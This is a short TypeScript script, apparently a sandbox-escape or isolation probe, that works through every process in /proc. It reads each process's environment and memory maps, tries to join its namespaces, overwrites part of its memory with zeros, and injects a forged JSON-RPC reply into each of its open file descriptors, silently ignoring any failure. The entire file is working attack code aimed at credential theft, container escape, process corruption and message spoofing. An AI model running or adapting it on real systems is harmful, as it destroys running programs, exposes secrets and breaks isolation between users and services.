import { closeSync, openSync, readdirSync, readFileSync, writeSync } from 'node:fs'
import { setns } from '#provided/syscalls/namespaces.ts'

for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
  for (const file of ['environ', 'cmdline', 'maps', 'stack', 'syscall']) {
    try {
      readFileSync(`/proc/${pid}/${file}`)
    } catch {}
  }
  for (const namespace of ['cgroup', 'ipc', 'net', 'uts', 'pid', 'mnt']) {
    try {
      setns(openSync(`/proc/${pid}/ns/${namespace}`, 'r'))
    } catch {}
  }
  try {
    const memory = openSync(`/proc/${pid}/mem`, 'r+')
    for (let at = 0; at < 64; at++) writeSync(memory, Buffer.alloc(4096), 0, 4096, 0x400000 + at * 4096)
    closeSync(memory)
  } catch {}
  try {
    for (const fd of readdirSync(`/proc/${pid}/fd`)) writeSync(openSync(`/proc/${pid}/fd/${fd}`, 'w'), '{"id":1,"result":[]}\n')
  } catch {}
}
